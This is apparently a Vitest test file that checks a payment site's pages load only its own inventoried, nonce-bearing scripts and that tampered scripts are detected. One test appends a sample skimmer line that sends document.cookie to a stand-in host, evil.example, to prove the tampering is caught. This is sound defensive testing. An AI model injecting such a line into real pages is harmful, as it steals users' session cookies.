import { beforeAll, expect, inject, test } from 'vitest';
import { readPageScripts } from '@/scripts/lib/page-scripts.mjs';
import { seedOrder } from '@/tests/support/factories/orders';
import { reasonFor } from '@/tests/support/page-inventory';

const { origin } = inject('stack');

let token: string;
beforeAll(async () => {
  token = (await seedOrder()).payToken;
});

test.each(['', '/result', '/cards/terms', '/phone/terms'])(
  'a payment page%s brings what our build wrote, byte for byte, each with its reason, and nothing else',
  async (page) => {
    const { scripts, policy } = await readPageScripts(`${origin}/pay/${token}${page}`);
    expect(scripts.filter(({ inline }) => !inline).length).toBeGreaterThan(3);
    expect(
      new Set(scripts.filter(({ inline }) => !inline).map((s) => new URL(s.where).origin)),
    ).toEqual(new Set([origin]));
    const unexplained = scripts.filter((script) => reasonFor(script) === undefined);
    expect(unexplained.map(({ where, text }) => text || where)).toEqual([]);
    // What a browser lets run is exactly what has been listed: all of it, and all by this answer's nonce.
    const nonce = /'nonce-([^']+)'/.exec(policy)?.[1];
    expect(nonce).toBeTruthy();
    expect(new Set(scripts.map((script) => script.nonce))).toEqual(new Set([nonce]));
  },
);

test('a script that is changed by one letter, or that somebody has put beside ours, has no reason', async () => {
  const { scripts } = await readPageScripts(`${origin}/pay/${token}`);
  const explained = scripts.filter((script) => reasonFor(script) !== undefined);
  expect(explained).toEqual(scripts);
  for (const script of scripts) {
    const skimmer = 'fetch("https://evil.example/"+document.cookie)';
    const changed = script.inline
      ? { ...script, text: `${script.text};${skimmer}` }
      : { ...script, hash: `${script.hash.slice(0, -2)}A=` };
    expect([script.where, reasonFor(changed)]).toEqual([script.where, undefined]);
  }
});
